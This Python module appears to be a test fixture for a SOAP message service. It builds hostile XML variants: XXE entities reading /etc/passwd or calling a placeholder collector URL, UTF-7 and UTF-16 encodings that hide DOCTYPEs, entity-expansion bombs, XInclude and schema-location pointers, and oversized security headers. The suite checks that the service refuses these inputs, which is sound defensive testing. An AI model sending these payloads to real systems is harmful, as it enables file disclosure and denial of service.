"""Hostile XML as data: what each attack does to the octets of a valid message."""

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from fixtures.epr.message import Http, Message

FILE: Final = "file:///etc/passwd"
#: stands in that file, wherever there is one
MARKER: Final = "root:x:0:0"
_START: Final = b"<env:Envelope"
_XINCLUDE: Final = "http://www.w3.org/2001/XInclude"
_XSI: Final = "http://www.w3.org/2001/XMLSchema-instance"


@dataclass(frozen=True)
class Attack:
    """``change`` gets the body and the address of the collector. ``echoed`` is put behind the MessageID, which the
    answer repeats in wsa:RelatesTo: what a parser puts there becomes visible."""

    id: str
    prolog: str = ""
    echoed: str = ""
    root_attributes: str = ""
    recode: Callable[[Http], Http] = lambda http: http

    def on(self, message: Message, collector: str) -> Message:
        """The message with this one change."""
        prolog, echoed, attributes = (
            text.replace("COLLECTOR", collector).encode() for text in (self.prolog, self.echoed, self.root_attributes)
        )

        def edit(http: Http) -> Http:
            start = http.body.index(_START)
            rest = http.body[start:].replace(_START, _START + attributes, 1)
            rest = rest.replace(b"</wsa:MessageID>", echoed + b"</wsa:MessageID>", 1)
            return self.recode(Http(http.content_type, http.body[:start] + prolog + rest, http.headers))

        return message.on_the_wire(self.id, edit)


def _utf_16(http: Http) -> Http:
    if http.content_type.startswith("multipart/"):  # the root part alone, which is a message of its own
        return http
    return Http("application/soap+xml; charset=UTF-16", http.body.decode().encode("utf-16"), http.headers)


def _utf_7(http: Http) -> Http:
    if http.content_type.startswith("multipart/"):
        return http
    hidden = re.sub(
        r"<!DOCTYPE[^>]*>", lambda found: found[0].replace("<", "+ADw-").replace(">", "+AD4-"), http.body.decode()
    )
    body = f'<?xml version="1.0" encoding="UTF-7"?>{hidden}'.encode()
    return Http("application/soap+xml", body, http.headers)


#: document types, all of which must be refused (SOAP 1.2 part 1, section 5)
DOCTYPES: Final = (
    Attack("entity-of-a-file", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{FILE}">]>', "&e;"),
    Attack("entity-of-a-url", '<!DOCTYPE x [<!ENTITY e SYSTEM "COLLECTOR">]>', "&e;"),
    Attack("parameter-entity-of-a-file", f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{FILE}"> %p;]>'),
    Attack("parameter-entity-of-a-url", '<!DOCTYPE x [<!ENTITY % p SYSTEM "COLLECTOR"> %p;]>'),
    Attack("external-subset-of-a-file", f'<!DOCTYPE x SYSTEM "{FILE}">'),
    Attack("external-subset-of-a-url", '<!DOCTYPE x SYSTEM "COLLECTOR">'),
    Attack("public-subset-of-a-url", '<!DOCTYPE x PUBLIC "-//eprobe//DTD x//EN" "COLLECTOR">'),
    Attack("internal-entity", '<!DOCTYPE x [<!ENTITY e "harmless">]>', "&e;"),
    Attack("document-type-alone", "<!DOCTYPE x>"),
    Attack("utf-16", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{FILE}">]>', "&e;", recode=_utf_16),
    Attack("utf-7", '<!DOCTYPE x SYSTEM "COLLECTOR">', recode=_utf_7),
)
_NESTED: Final = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
BOMBS: Final = (
    Attack("nested-entities", f'<!DOCTYPE x [<!ENTITY e0 "lol">{_NESTED}<!ENTITY e "&e9;">]>', "&e;"),
    Attack("quadratic-entities", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}"><!ENTITY e "{"&a;" * 2_000}">]>', "&e;"),
    Attack("entity-of-itself", '<!DOCTYPE x [<!ENTITY a "&e;"><!ENTITY e "&a;">]>', "&e;"),
)
#: pointers in a message that may be served or refused, as long as nobody follows them
POINTERS: Final = (
    Attack("xinclude-of-a-file", "", f'<i:include xmlns:i="{_XINCLUDE}" href="{FILE}" parse="text"/>'),
    Attack("xinclude-of-a-url", "", f'<i:include xmlns:i="{_XINCLUDE}" href="COLLECTOR" parse="text"/>'),
    Attack("schema-location", root_attributes=f' xmlns:i="{_XSI}" i:schemaLocation="urn:x COLLECTOR"'),
    Attack("no-namespace-schema", root_attributes=f' xmlns:i="{_XSI}" i:noNamespaceSchemaLocation="COLLECTOR"'),
    Attack("style-sheet", '<?xml-stylesheet type="text/xsl" href="COLLECTOR"?>'),
)
#: what makes content of wsse:Security that costs much to read
LARGE: Final[dict[str, Callable[[], bytes]]] = {
    "deep": lambda: b"<a>" * 10_000 + b"</a>" * 10_000,
    "many-attributes": lambda: b"<a " + b" ".join(b'a%d=""' % number for number in range(100_000)) + b"/>",
    "large-attribute": lambda: b'<a a="' + b"x" * 20_000_000 + b'"/>',
    "large-text": lambda: b"<a>" + b"x" * 20_000_000 + b"</a>",
}


def with_large(kind: str, message: Message) -> Message:
    """The message with more in its Security header than anybody should read."""

    def edit(http: Http) -> Http:
        body = http.body.replace(b"</wsse:Security>", LARGE[kind]() + b"</wsse:Security>", 1)
        return Http(http.content_type, body, http.headers)

    return message.on_the_wire(f"{kind} content in wsse:Security", edit)
